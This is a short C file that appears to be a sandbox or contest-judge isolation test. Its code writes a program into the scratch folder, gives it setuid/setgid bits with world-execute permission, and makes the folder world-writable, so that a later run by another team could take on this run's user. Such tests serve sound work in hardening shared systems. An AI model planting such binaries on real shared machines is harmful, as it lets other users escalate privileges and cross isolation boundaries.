/* Leaves a program with the set-user and set-group bits in its scratch folder, executable by all. Success: the next
 * run, perhaps of another team, finds it, and becomes this run's user.
 *
 * then: find_files
 * expect: AC
 */
#include "tiny.h"

static int attack(void) {
    long file = CALL(__NR_openat, AT_FDCWD, "tiny", O_WRONLY | O_CREAT, 0777);
    write_tiny(file);
    CALL(__NR_fchmod, file, 06777);
    CALL(__NR_fchmodat, AT_FDCWD, ".", 0777);
    return 0;
}
